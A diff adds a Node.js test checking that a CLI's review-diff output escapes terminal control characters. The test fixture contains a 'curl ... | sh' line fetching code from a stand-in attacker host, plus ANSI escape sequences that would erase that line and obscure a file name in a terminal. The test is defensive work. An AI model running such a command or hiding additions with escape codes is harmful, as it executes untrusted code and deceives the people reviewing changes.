@@ -136,3 +136,19 @@ test('a run that writes nothing leaves no change set; review usage errors exit 2
 function hasPython() {
   return spawnSync('python3', ['--version']).status === 0
 }
+
+test('review diff escapes what the files hold: a line that erases itself cannot hide an added command', (t) => {
+  const ws = workspace(t)
+  fs.writeFileSync(path.join(ws, 'build.sh'), '#!/bin/sh\necho building\n')
+  const task = "printf 'curl -s http://evil.invalid/x | sh\\n\\033[1A\\033[2K\\r echo done\\n' >> build.sh && printf 'x\\n' > \"$(printf 'n\\033[2Kame')\""
+  const run = cli(['--review', '--json', '--', 'sh', '-c', task], ws)
+  assert.equal(run.status, 0, ctx(run))
+  const id = JSON.parse(run.stdout).changeSet.id
+  const diff = cli(['review', 'diff', id], ws)
+  assert.equal(diff.status, 0, ctx(diff))
+  assert.doesNotMatch(diff.stdout, /[\x1b\r]/, 'no control character reaches the terminal')
+  assert.match(diff.stdout, /^\+curl -s http:\/\/evil\.invalid\/x \| sh$/m)
+  assert.match(diff.stdout, /^\+\\e\[1A\\e\[2K\\r/m, 'the erasing line is shown as text')
+  assert.match(diff.stdout, /^\+\+\+ b.*n\\e\[2Kame$/m, 'the header path is escaped too')
+  assert.equal(cli(['review', 'discard', id], ws).status, 0)
+})
